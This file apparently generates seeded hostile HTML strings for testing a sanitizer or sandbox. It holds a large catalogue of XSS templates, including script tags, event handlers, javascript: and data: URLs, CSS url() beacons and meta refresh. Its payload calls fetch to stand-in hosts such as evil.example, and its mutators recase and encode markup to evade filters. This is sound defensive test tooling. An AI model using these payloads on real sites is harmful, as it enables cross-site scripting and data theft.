// Hostile messages: templates, and how they vary.

/** A generator of numbers in [0, 1) from a seed (mulberry32). */
function random(seed) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** In the templates, JS is a script that tells that it runs, URL an address of somebody else, OWN one of the sandbox. */
const TEMPLATES = [
  "<script>JS</script>", "<script src=URL></script>", "<script type=module>import 'URL';JS</script>", "<script src='data:text/javascript,JS'></script>",
  "<script>JS//", "<scr<script>ipt>JS</scr</script>ipt>", "<script\x0c>JS</script >", "<svg><script>JS</script></svg>", "<svg><script href=URL /></svg>",
  "<math><mtext><script>JS</script></mtext></math>", "<noscript><p title='</noscript><script>JS</script>'></noscript>", "<template><script>JS</script></template>",
  "<img src=x onerror=\"JS\">", "<img src=URL>", "<img srcset='URL 1x, URL 2x'>", "<img src=URL loading=eager onload=\"JS\">", "<image src=URL>", "<svg onload=\"JS\">",
  "<svg><image href=URL xlink:href=URL /></svg>", "<svg><use href='URL#x'/></svg>", "<svg><feImage href=URL /></svg>", "<svg><style>@import 'URL';</style></svg>",
  "<svg><a href='javascript:JS'><text x=9 y=30>click</text></a></svg>", "<svg><animate onbegin=\"JS\" attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to='JS'>",
  "<svg><foreignObject><iframe src=URL></iframe></foreignObject></svg>", "<body onload=\"JS\">", "<body background=URL>", "<input autofocus onfocus=\"JS\">",
  "<details open ontoggle=\"JS\">", "<video src=URL autoplay onerror=\"JS\">", "<video poster=URL></video>", "<audio src=URL autoplay>", "<source src=URL>",
  "<video><source src=URL onerror=\"JS\"></video>", "<track src=URL>", "<marquee onstart=\"JS\">x</marquee>", "<a href='javascript:JS'>click me here</a>",
  "<a href='java\tscript:JS' target=_top>click me here</a>", "<a href=URL>click me here</a>", "<a href=URL target=_blank>click me here</a>", "<a href=URL ping=URL>click me here</a>",
  "<a href=URL download>click me here</a>", "<a href='OWN/api/reset'>click me here</a>", "<a href='data:text/html,<script>JS</script>'>click me here</a>", "<link rel=stylesheet href=URL>",
  "<link rel=preload as=image href=URL>", "<link rel=prefetch href=URL>", "<link rel=preconnect href=URL>", "<link rel=dns-prefetch href=URL>", "<link rel=modulepreload href=URL>",
  "<link rel=prerender href=URL>", "<link rel=icon href=URL>", "<link rel=manifest href=URL>", "<link rel=import href=URL>", "<link rel='alternate stylesheet preconnect' href=URL>",
  "<svg><link xmlns='http://www.w3.org/1999/xhtml' rel=preconnect href=URL></svg>", "<style>@import url(URL);</style>", "<style>@import 'URL' layer(x);</style>",
  "<style>body{background:url(URL)}</style>", "<style>@font-face{font-family:x;src:url(URL)}*{font-family:x}</style>", "<style>*{cursor:url(URL),auto}li{list-style:url('URL')}</style>",
  "<style>p{border-image:url(URL) 1;mask:url(URL#m);filter:url(URL#f)}</style><p>x", "<style>@namespace url(URL);</style>", "<style>p::before{content:url(URL)}</style><p>x",
  "<style>p{background:image-set('URL' 1x)}</style><p>x", "<style>p{width:expression(JS);behavior:url(URL);-moz-binding:url(URL)}</style><p>x",
  "<div style=\"background:url(URL)\">x</div>", "<div style=\"background:\\75rl(URL)\">x</div>", "<div style=\"background-image:url(javascript:JS)\">x</div>",
  "<style>input[value^='a']{background:url(URL)}</style><input value=abc>", "<meta http-equiv=refresh content='0;url=URL'>", "<meta http-equiv=refresh content='0;url=javascript:JS'>",
  "<meta http-equiv=refresh content='0;url=OWN/api/reset'>", "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>JS</script>\">", "<meta http-equiv=set-cookie content='a=b'>",
  "<meta http-equiv=Content-Security-Policy content=\"default-src * 'unsafe-inline'\">", "<meta http-equiv=x-dns-prefetch-control content=on><a href=URL>x</a>",
  "<meta charset=utf-7>+ADw-script+AD4-JS+ADw-/script+AD4-", "<meta http-equiv=Content-Type content='text/html;charset=iso-2022-jp'>\x1b$B<\x1b(Bscript>JS</script>",
  "\ufeff<script>JS</script>", "<\u0000script>JS</script>", "<meta charset=utf-16le><\u0000s\u0000c\u0000r\u0000i\u0000p\u0000t\u0000>JS", "\u00bcscript\u00beJS\u00bc/script\u00be", "\uff1cscript\uff1eJS\uff1c/script\uff1e",
  "<meta name=referrer content=unsafe-url><img src=URL>", "<base href=URL><img src=x><script src=x></script>", "<base href=URL target=_top><a href=x>click me here</a>",
  "<form action=URL><input name=a value=b><button autofocus>click me here</button></form>", "<form action='OWN/engagebay/dev/api/panel/tags' method=post enctype=text/plain><button>click me here</button></form>",
  "<form action='javascript:JS'><button>click me here</button></form>", "<button form=f formaction=URL>click me here</button><form id=f></form>", "<isindex action=URL>",
  "<iframe src=URL></iframe>", "<iframe src='javascript:JS'></iframe>", "<iframe srcdoc=\"<script>JS</script><img src=URL>\"></iframe>", "<iframe src='data:text/html,<script>JS</script>'></iframe>",
  "<iframe src='OWN/'></iframe>", "<iframe sandbox='allow-scripts allow-same-origin allow-top-navigation' src=URL></iframe>", "<iframe srcdoc='<iframe srcdoc=\"<script>JS</script>\"></iframe>'></iframe>",
  "<object data=URL></object>", "<object data='data:text/html,<script>JS</script>'></object>", "<object type=text/html data='OWN/'></object>", "<embed src=URL>", "<embed src='javascript:JS'>",
  "<applet code=URL></applet>", "<frameset><frame src=URL></frameset>", "<portal src=URL></portal>", "<fencedframe src=URL></fencedframe>", "<xml src=URL></xml>", "<bgsound src=URL>", "<layer src=URL></layer>",
  "<table background=URL><td background=URL>x</table>", "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"JS\"><image href=\"URL\"/></svg>'>",
  "<html manifest=URL>", "<?xml-stylesheet href=URL?>", "<!--[if IE]><script>JS</script><![endif]-->", "<!--><img src=x onerror=\"JS\">-->", "<![CDATA[<script>JS</script>]]>",
  "<title><style></title><img src=x onerror=\"JS\"></style>", "<textarea></textarea><img src=x onerror=\"JS\">", "<math href='javascript:JS'>click me here</math>", "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"URL\"]}]}</script>",
  "<script type=importmap>{\"imports\":{\"x\":\"URL\"}}</script>", "<div onpointerover=\"JS\" onmouseover=\"JS\" style='position:fixed;inset:0'>click me here</div>", "<p onclick=\"JS\">click me here</p>",
  "<img src=x:x onerror=eval(atob('Y29uc29sZS5sb2coJ2hvc3RpbGUgc2NyaXB0Jyk='))>", "</iframe></pre></section><script>JS</script>", "{{name}}<img src=x onerror=\"JS\">",
];
const SCRIPT = "console.log('hostile script');try{top.ran=parent.ran=1}catch(e){};fetch('URL');new Image().src='URL';alert('hostile script')";
const SCHEMES = ["https://", "http://", "//", "HTTPS://", "https:\\\\", "\thttps://"];
const HOSTS = ["evil.example", "192.0.2.7", "[2001:db8::7]", "xn--vil-9la.example", "evil.example:8443", "user:pass@evil.example"];

/** `count` hostile texts; the same for the same seed. */
export function hostileTexts(count, seed, own) {
  const next = random(seed);
  const pick = (list) => list[Math.floor(next() * list.length)];
  const url = () => `${pick(SCHEMES)}${next() < 0.5 ? `h${Math.floor(next() * 1e6)}.evil.example` : pick(HOSTS)}/${Math.floor(next() * 1e6)}`;
  const fill = (text) => text.replaceAll("JS", () => SCRIPT).replaceAll("URL", url).replaceAll("OWN", own);
  const recased = (text) => text.replace(/<\/?[a-z]+/gi, (tag) => [...tag].map((c) => (next() < 0.5 ? c.toUpperCase() : c.toLowerCase())).join(""));
  const spaced = (text) => text.replace(/<([a-z]+) /gi, (_, tag) => `<${tag}${pick(["/", "\n", "\t", "\x0c", " \r\n "])}`);
  const broken = (text) => text.replace(/>/g, (end) => (next() < 0.1 ? "" : end));
  const entity = (text) => text.replace(/javascript:/g, () => pick(["javascript&colon;", "&#106;avascript:", "java&Tab;script:", "javascript:"]));
  const wrapped = (text) => pick(["<div>$</div>", "<table><tr><td>$</table>", "<svg><foreignObject>$</foreignObject></svg>", "<math><annotation-xml encoding='text/html'>$</annotation-xml></math>", "<template shadowrootmode=open>$</template>", "<select>$</select>", "$", "$"]).replace("$", () => text);
  const changes = [recased, spaced, broken, entity, wrapped, (text) => text, (text) => text];
  return Array.from({ length: count }, (_, position) => {
    // Each template comes alone and as it is first.
    if (position < TEMPLATES.length) return fill(TEMPLATES[position]);
    const parts = Array.from({ length: 1 + Math.floor(next() * 4) }, () => pick(changes)(pick(changes)(pick(TEMPLATES))));
    return fill(parts.join(pick(["", "\n", "<p>text</p>", "-->", "\"'>"])));
  });
}
